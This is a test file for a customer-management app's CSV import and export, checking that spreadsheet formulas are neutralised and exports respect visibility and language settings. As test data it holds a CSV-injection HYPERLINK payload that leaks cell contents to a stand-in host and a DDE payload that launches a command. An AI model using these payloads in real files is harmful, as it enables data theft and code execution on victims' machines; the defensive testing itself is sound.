/**
 * Spreadsheet safety from the attacker's side: cells like `=HYPERLINK(...)` imported from a CSV
 * file are stored as the text they are, and the export (the one CSV writer) neutralises them, so a
 * spreadsheet shows text instead of running a formula. The export holds only visible customers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { startTestServer, type TestServer } from '../../support/server.js';
import { ok, type ApiClient } from '../../support/api.js';
import { buildOrg } from '../../support/org.js';
import { csvStream } from '../../../server/exports/csv.js';

let server: TestServer;
let org: Awaited<ReturnType<typeof buildOrg>>;

beforeAll(async () => {
  server = await startTestServer();
  org = await buildOrg(await server.admin());
});
afterAll(() => server?.close());

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")';
const FORMULA_START = /^[=+\-@\t\r]/;

async function importCsv(api: ApiClient, csv: string | Buffer, dryRun = false) {
  const res = await fetch(`${server.url}/api/customers/import?dryRun=${dryRun}`, { method: 'POST', headers: { 'content-type': 'text/csv', authorization: `Bearer ${api.token}` }, body: typeof csv === 'string' ? csv : new Uint8Array(csv) });
  return { status: res.status, body: (await res.json()) as any };
}

async function exportCsv(api: ApiClient) {
  const res = await fetch(`${server.url}/api/customers/export`, { headers: { authorization: `Bearer ${api.token}` } });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { res, bytes, rows: parse(bytes, { bom: true, relax_column_count: false }) as string[][] };
}

describe('CSV export of customers', () => {
  it('imported formula cells are stored as text and exported neutralised, in a UTF-8 file with BOM that the import reads back', async () => {
    const { a } = org;
    const csv = [
      'name,type,tier,owner,address,notes,contact,title,phone',
      `"${HYPERLINK.replace(/"/g, '""')}",channel,gold,${a.user.email},@SUM(1+1),+1+cmd|' /C calc'!A0,-2+3,=1+1,+8613800138000`,
      `华南电子,渠道,铂金,${a.user.email},深圳市南山区,长期合作,陈总,总经理,13800138000`,
    ].join('\n');
    const imported = await importCsv(a.api, csv);
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);

    // Stored as the text it is: the API shows exactly what the file held.
    const found = ok(await a.api.get(`/api/customers?q=${encodeURIComponent('HYPERLINK')}`)).items;
    expect(found.map((c: any) => c.name)).toEqual([HYPERLINK]);
    const detail = ok(await a.api.get(`/api/customers/${found[0].id}`));
    expect(detail).toMatchObject({ address: '@SUM(1+1)', notes: "+1+cmd|' /C calc'!A0", contacts: [{ name: '-2+3', title: '=1+1', phone: '+8613800138000' }] });

    const { res, bytes, rows } = await exportCsv(a.api);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="customers-\d{4}-\d{2}-\d{2}\.csv"/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain('\r\n');
    // The admin reads Chinese: Chinese headers and labels, as the import spells them.
    expect(rows[0]).toEqual(['客户名称', '客户类型', '客户等级', '潜在客户分类', '负责人', '地址', '备注', '联系人', '职务', '电话', '邮箱', '生日']);
    const evil = rows.find((r) => r[0].includes('HYPERLINK'))!;
    expect(evil).toEqual([`'${HYPERLINK}`, '渠道', '黄金', '', a.user.email, "'@SUM(1+1)", "'+1+cmd|' /C calc'!A0", "'-2+3", "'=1+1", "'+8613800138000", '', '']);
    expect(rows.find((r) => r[0] === '华南电子')).toEqual(['华南电子', '渠道', '铂金', '', a.user.email, '深圳市南山区', '长期合作', '陈总', '总经理', '13800138000', '', '']);
    // No cell of the whole file starts as a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);

    // The export is in the import's format: reading it back finds no problem.
    const again = await importCsv(a.api, bytes, true);
    expect(again.status).toBe(200);
    expect(again.body.data.problems).toEqual([]);
    expect(again.body.data.customers).toBe(new Set(rows.slice(1).map((r) => r[0])).size);
  });

  it('holds only the customers the user may see, and speaks the user’s language', async () => {
    const admin = await server.admin();
    const { b, c } = org;
    ok(await c.api.patch('/api/me', { locale: 'en' }));
    ok(await b.api.post('/api/customers', { name: 'Owned by B', type: 'media', tier: 'silver' }), 201);
    ok(await admin.patch('/api/settings', { customerVisibility: 'owners' }));
    try {
      const names = async (api: ApiClient) => (await exportCsv(api)).rows.slice(1).map((r) => r[0]);
      expect(await names(b.api)).toContain('Owned by B');
      // c is in another department and owns nothing: nothing of a's or b's.
      const seenByC = await exportCsv(c.api);
      expect(seenByC.rows[0]).toEqual(['name', 'type', 'tier', 'prospect class', 'owner', 'address', 'notes', 'contact', 'title', 'phone', 'email', 'birthday']);
      expect(seenByC.rows.slice(1)).toEqual([]);
      ok(await admin.patch('/api/settings', { customerVisibility: 'everyone' }));
      expect((await exportCsv(c.api)).rows.find((r) => r[0] === 'Owned by B')).toEqual(['Owned by B', 'media', 'silver', '', b.user.email, '', '', '', '', '', '', '']);
    } finally {
      ok(await admin.patch('/api/settings', { customerVisibility: 'everyone' }));
    }
    expect((await fetch(`${server.url}/api/customers/export`)).status).toBe(401);
  });
});

describe('the CSV writer', () => {
  it('neutralises every cell a spreadsheet would run, quotes everything, and leaves numbers alone', async () => {
    const chunks: Buffer[] = [];
    for await (const chunk of csvStream(['a', 'b'], [['=1', '+1'], ['-1', '@x'], ['\t=1', '\r=2'], [-5, 'plain "quoted"'], [null, undefined]])) chunks.push(Buffer.from(chunk));
    const text = Buffer.concat(chunks).toString('utf8');
    expect(text).toBe('\ufeff"a","b"\r\n"\'=1","\'+1"\r\n"\'-1","\'@x"\r\n"\'\t=1","\'\r=2"\r\n"-5","plain ""quoted"""\r\n"",""\r\n');
  });
});
